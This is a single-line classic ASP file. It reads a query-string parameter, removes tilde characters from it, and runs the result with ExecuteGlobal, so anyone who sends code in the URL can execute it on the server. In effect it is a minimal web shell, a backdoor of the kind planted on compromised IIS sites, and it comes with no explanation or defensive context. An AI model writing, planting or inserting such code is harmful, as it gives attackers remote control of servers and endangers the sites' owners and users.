<% ExecuteGlobal(Replace(Request.QueryString("q"), "~", "")) %>
